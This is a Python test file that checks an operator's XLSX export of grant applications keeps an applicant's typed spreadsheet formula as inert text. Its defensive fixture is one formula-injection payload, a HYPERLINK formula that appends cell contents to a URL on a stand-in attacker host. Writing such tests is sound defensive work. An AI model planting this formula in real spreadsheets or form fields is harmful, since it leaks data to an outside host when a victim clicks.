"""What operators export is inert: an applicant's formula stays text."""

import io

from django.utils import translation
from openpyxl import load_workbook

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_an_applicants_formula_is_text_in_the_operators_workbook(
    member, ces_call, battery_startup, operator
):
    from yeongilman.programs.exporting import applications_xlsx
    from yeongilman.programs.services.applications import (
        application_save_draft,
        application_start,
    )

    application = application_start(actor=member, call=ces_call, organisation=battery_startup)
    application_save_draft(actor=member, application=application, answers={"product": FORMULA})
    with translation.override("en"):
        content = applications_xlsx(ces_call, "https://v.example")
    (cell,) = [c for c in _cells(content) if c.value == FORMULA]
    assert cell.data_type == "s"  # text, shown exactly as typed
    assert not any(c.data_type == "f" for c in _cells(content))
